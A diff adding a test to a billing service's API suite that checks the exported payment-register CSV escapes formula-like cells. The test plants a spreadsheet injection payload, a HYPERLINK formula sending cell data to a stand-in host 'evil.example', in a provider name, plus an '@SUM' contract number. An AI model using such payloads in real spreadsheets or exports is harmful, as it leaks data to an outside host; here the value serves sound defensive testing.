@@ -1,6 +1,8 @@
 """Billing's HTTP API: validation, attendance files, concurrency, four eyes, the treasury."""
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from datetime import date, datetime, timedelta
 from zoneinfo import ZoneInfo
@@ -11,8 +13,11 @@ from billing_world import (
     APPROVER,
     attend,
     enroll,
+    feed,
     invoice_of,
+    license_fields,
     licensed_provider,
+    new_bin,
     new_iin,
     run,
     tariff,
@@ -21,6 +26,7 @@ from harness import ADMIN, RunningService, reset_service, running_service, setti
 from ssu_billing.domain import Month
 from ssu_billing.main import build
 from ssu_billing.settings import Settings
+from ssu_contracts import LicenseIssuedV1
 
 EAST = {"Authorization": "Bearer ssu-dev-east-kz"}
 
@@ -460,3 +466,56 @@ async def test_a_national_run_bills_what_regional_runs_have_not(svc: RunningServ
     assert r.json()["detail"] == (
         f"{period} was billed by a national run, which covered region {regions[1]}"
     )
+
+
+async def test_the_payment_register_escapes_cells_a_spreadsheet_would_run(
+    svc: RunningService,
+) -> None:
+    region, year = "610000000", 2025
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Оплатить")'
+    bin_ = new_bin()
+    number = f"LIC-{bin_}"
+    fields = license_fields(bin_, number, seq=1, status="active", effective=date(year, 1, 1))
+    await feed(svc, LicenseIssuedV1(**{**fields, "region": region, "provider_name": hostile}))
+    contract = "@SUM(1+1)"
+    r = await svc.client.post(
+        "/v1/contracts",
+        headers=ADMIN,
+        json={
+            "number": contract,
+            "provider_bin": bin_,
+            "region": region,
+            "year": year,
+            "budget": "1000000.00",
+        },
+    )
+    assert r.status_code == 201, r.text
+    await tariff(
+        svc,
+        region=region,
+        form="stationary",
+        rate="1500.00",
+        unit="day",
+        effective_from=date(year, 1, 1),
+    )
+    e = await enroll(svc, bin_, number, date(year, 3, 1), region=region)
+    await attend(svc, bin_, f"{year}-03", {e: [2, 3]})
+    started = await run(svc, f"{year}-03", region=region)
+    r = await svc.client.post(f"/v1/runs/{started['id']}/approve", headers=APPROVER)
+    assert r.status_code == 200
+
+    r = await svc.client.get(f"/v1/payment-registers/{region}/{year}-03.csv", headers=ADMIN)
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert rows[1] == [
+        f"'{contract}/{year}-03",
+        f"'{contract}",
+        bin_,
+        f"'{hostile}",
+        region,
+        f"{year}-03",
+        "3000.00",
+        "dev-approver",
+    ]
+    # every cell a spreadsheet would read as a formula is escaped; an amount stays a number
+    assert [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
